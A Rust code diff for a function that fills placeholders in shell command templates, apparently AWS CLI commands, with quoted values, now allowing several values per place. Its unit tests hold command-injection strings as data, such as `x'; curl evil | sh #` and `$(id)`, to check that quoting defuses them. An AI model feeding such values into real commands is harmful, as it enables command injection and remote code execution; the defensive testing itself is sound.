@@ -12,11 +12,12 @@ use std::borrow::Cow;
 /// The longest value that is put into a command, in bytes; the longest ARN has 2048.
 const MAX: usize = 2048;
 
-/// Puts values into the `${…}` places of `template`; `value` looks up a place's name.
+/// Puts values into the `${…}` places of `template`; `value` looks up what a place names.
 ///
-/// A place without a value, or with one that is not safe, becomes `'<name>'` for the reader to fill.
+/// Several values become several words. A value that is not safe becomes `'<name>'`, for the reader
+/// to fill. `None` if there is no value for some place: then the command does not apply.
 #[must_use]
-pub fn fill<'v>(template: &str, value: impl Fn(&str) -> Option<Cow<'v, str>>) -> String {
+pub fn fill<'v>(template: &str, value: impl Fn(&str) -> Vec<Cow<'v, str>>) -> Option<String> {
     let mut command = String::with_capacity(template.len());
     let mut rest = template;
     while let Some((before, place)) = rest.split_once("${") {
@@ -24,14 +25,23 @@ pub fn fill<'v>(template: &str, value: impl Fn(&str) -> Option<Cow<'v, str>>) ->
             break;
         };
         command.push_str(before);
-        match value(name).filter(|value| is_safe(value)) {
-            Some(value) => command.push_str(&quote(&value)),
-            None => command.push_str(&format!("'<{name}>'")),
+        let words: Vec<_> = value(name).iter().map(|value| word(name, value)).collect();
+        if words.is_empty() {
+            return None;
         }
+        command.push_str(&words.join(" "));
         rest = behind;
     }
     command.push_str(rest);
-    command
+    Some(command)
+}
+
+fn word(name: &str, value: &str) -> String {
+    if is_safe(value) {
+        quote(value).into_owned()
+    } else {
+        format!("'<{name}>'")
+    }
 }
 
 /// `value` as one word of a POSIX shell.
@@ -67,23 +77,29 @@ mod tests {
     #[test]
     fn places_are_filled_and_quoted() {
         let values = |name: &str| match name {
-            "name" => Some(Cow::Borrowed("main trail")),
-            "region" => Some(Cow::Borrowed("eu-west-1")),
-            "evil" => Some(Cow::Borrowed("x'; curl evil | sh #")),
-            "dash" => Some(Cow::Borrowed("--profile=root")),
-            "bell" => Some(Cow::Borrowed("a\u{7}\n")),
-            _ => None,
+            "name" => vec![Cow::Borrowed("main trail")],
+            "region" => vec![Cow::Borrowed("eu-west-1")],
+            "evil" => vec![Cow::Borrowed("x'; curl evil | sh #")],
+            "dash" => vec![Cow::Borrowed("--profile=root")],
+            "bell" => vec![Cow::Borrowed("a\u{7}\n")],
+            "both" => vec![Cow::Borrowed("111122223333"), Cow::Borrowed("$(id)")],
+            _ => vec![],
         };
         for (template, expected) in [
             (
                 "start --name ${name} --region ${region}",
-                "start --name 'main trail' --region eu-west-1",
+                Some("start --name 'main trail' --region eu-west-1"),
             ),
-            ("x ${evil}", r"x 'x'\''; curl evil | sh #'"),
-            ("x ${dash} ${bell} ${gone}", "x '<dash>' '<bell>' '<gone>'"),
-            ("no ${end", "no ${end"),
+            (
+                "x Values=${evil}",
+                Some(r"x Values='x'\''; curl evil | sh #'"),
+            ),
+            ("x ${dash} ${bell}", Some("x '<dash>' '<bell>'")),
+            ("x ${both}", Some("x 111122223333 '$(id)'")),
+            ("x ${gone}", None),
+            ("no ${end", Some("no ${end")),
         ] {
-            assert_eq!(fill(template, values), expected);
+            assert_eq!(fill(template, values).as_deref(), expected);
         }
     }
 
